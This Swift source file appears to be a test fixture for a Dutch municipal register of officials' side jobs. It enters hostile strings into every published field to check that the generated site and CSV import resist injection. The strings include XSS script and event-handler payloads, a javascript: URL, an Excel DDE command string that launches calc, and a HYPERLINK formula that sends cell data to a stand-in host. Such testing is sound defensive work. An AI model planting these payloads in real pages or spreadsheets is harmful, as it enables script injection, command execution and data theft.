import Foundation

/// Texts that a page, a spreadsheet or a terminal could take for more than text.
package enum BadText: String, CaseIterable, Sendable {
  case script = "<script>alert('x')</script><img src=x onerror=alert(1)>"
  case attribute = "\" onmouseover=\"alert(1)\" x='"
  case formula = "=HYPERLINK(\"https://boos.example/?\"&A1;\"Klik\")"
  case dash = "-2+3+cmd|' /C calc'!A0"
  case link = "javascript:alert(document.domain)"
  case template = "{{{naam}}} {{#opgaven}} ]]> </title><!-- &nbsp; &#60;b&#62;"
  case reversed = "Voorzitter \u{202E}gnithcitS"
  case long = "lang"

  /// What is typed.
  package var text: String { self == .long ? String(repeating: "Tienduizend tekens. ", count: 500) : rawValue }
}

extension Bench {
  /// Where a person can type a text that is published, and a command that puts it there; the text stands at `TEKST`.
  package static let publishedPlaces = [
    "secretariaat: nevenfunctie bevestig bode --op 2024-01-01 --naam TEKST",
    "college: nevenfunctie stel-in --titel TEKST --op 2021-01-01",
    "college: nevenfunctie stel-in --bron TEKST --op 2022-01-01",
    "college: nevenfunctie opgave werk-bij bode/1 --naam TEKST",
    "college: nevenfunctie opgave werk-bij bode/1 --hoofdfunctie TEKST",
    "college: nevenfunctie opgave werk-bij bode/1 --nevenwerkzaamheid TEKST",
    "college: nevenfunctie opgave werk-bij bode/1 --organisatie TEKST",
    "college: nevenfunctie opgave werk-bij bode/1 --beperkingen TEKST",
    "college: nevenfunctie opgave werk-bij bode/1 --tijdsbeslag TEKST",
    "college: nevenfunctie laat-achterwege bode/2 --grond anders --rechtsgrond TEKST",
    "secretariaat: nevenfunctie importeer register.csv --bron TEKST", "college: publicatie instel --contact TEKST",
  ]

  /// A ledger in which every bad text was typed in every published place, what each attempt led to, and the site of it.
  package static func withBadTexts() throws -> (bench: Bench, attempts: [Attempt]) { try bad.get() }

  /// A bad text, typed in a place.
  package struct Attempt: Sendable {
    package let text: BadText
    package let outcome: Outcome
  }

  private static let bad: Result<(Bench, [Attempt]), any Error> = Result {
    let bench = try Bench.founded()
    removeAtExit(bench.root)
    let report =
      "nevenfunctie meld bode --organisatie 'Club Nergens' --ingang 2022 --bezoldigd nee --uren 2 --op 2022-02-01"
    for (key, command) in [
      ("college", "organisatie functie Bode --op 2020-01-01"),
      ("college", "organisatie bekleed Bode --naam 'Karin Voorbeeld' --op 2020-01-01"),
      (
        "college",
        "nevenfunctie stel-in --model lelystad --vooraf nee --verantwoordelijke college --velden naam,hoofdfunctie,"
          + "nevenwerkzaamheid,organisatie,ingang,einde,beperkingen,bezoldigd,tijdsbeslag --op 2020-01-01"
      ),
      ("college", "nevenfunctie wijs-aan Bode --houder-rol geen --op 2020-01-01"),
      ("secretariaat", "\(report) --activiteit Penningmeester"), ("secretariaat", "\(report) --activiteit Docent"),
      ("college", "nevenfunctie verleen bode/1 --op 2022-02-02"),
      ("college", "nevenfunctie verleen bode/2 --op 2022-02-02"),
      ("college", "nevenfunctie opgave publiceer bode/1 --op 2022-02-03"),
      (
        "college",
        "publicatie instel --adres https://register.gemeente.example --contact register@gemeente.example "
          + "--beveiliging https://gemeente.example/melden --zoekmachines toestaan "
          + "--licentie https://creativecommons.org/publicdomain/zero/1.0/"
      ),
    ] { try bench.type(command, als: key).orThrow() }
    var attempts: [Attempt] = []
    for text in BadText.allCases {
      // Quoted as the file's own rules ask, so that the text arrives as it is.
      let quoted = "\"\(text.text.replacingOccurrences(of: "\"", with: "\"\""))\""
      try bench.write(
        "functie;naam;nevenwerkzaamheid;organisatie;beperkingen;besluit;openbaar sinds;ingang;bezoldigd;uren per maand\n"
          + "Bode;Karin Voorbeeld;\(quoted);\(quoted);\(quoted);onder voorwaarden;2023-01-01;2022;nee;3\n",
        to: "register.csv")
      for place in publishedPlaces {
        let words = place.components(separatedBy: ": ")
        // Behind an equals sign, so that a text that begins with a hyphen is no option.
        let arguments = words[1].replacingOccurrences(of: " TEKST", with: "=TEKST").split(separator: " ").map {
          $0.replacingOccurrences(of: "TEKST", with: text.text)
        }
        attempts.append(Attempt(text: text, outcome: try bench.inLedger(arguments, als: words[0])))
      }
      // The name of a function is no option; who types one that begins with a hyphen is told how it is used.
      guard text != .dash else { continue }
      let function = try bench.inLedger("organisatie", "functie", text.text, "--op", "2020-01-01", als: "college")
      attempts.append(Attempt(text: text, outcome: function))
      guard function.exitCode == 0 else { continue }
      let designate = try bench.inLedger(
        "nevenfunctie", "wijs-aan", text.text, "--houder-rol", "geen", "--op", "2020-01-01", als: "college")
      attempts.append(Attempt(text: text, outcome: designate))
    }
    try bench.type("publiceer site", als: "secretariaat").orThrow()
    return (bench, attempts)
  }
}
